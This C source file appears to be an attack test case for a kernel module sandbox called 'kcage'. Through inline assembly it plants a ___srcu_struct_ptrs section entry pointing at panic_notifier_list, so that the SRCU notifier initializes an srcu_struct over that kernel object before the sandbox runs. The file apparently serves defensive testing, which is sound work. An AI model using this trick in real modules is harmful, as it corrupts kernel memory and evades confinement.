// SPDX-License-Identifier: GPL-2.0
/*
 * atk_ld_srcu: a ___srcu_struct_ptrs entry naming a kernel object
 * (panic_notifier_list): the SRCU module notifier, which runs before
 * kcage's at MODULE_STATE_COMING, would initialize a struct srcu_struct
 * over it.
 */
#include "attack.h"

asm(".pushsection ___srcu_struct_ptrs, \"aw\"\n"
    "	.balign 8\n"
    "	.quad panic_notifier_list\n"
    ".popsection\n");

static int attack(struct file *f)
{
	return 0;
}
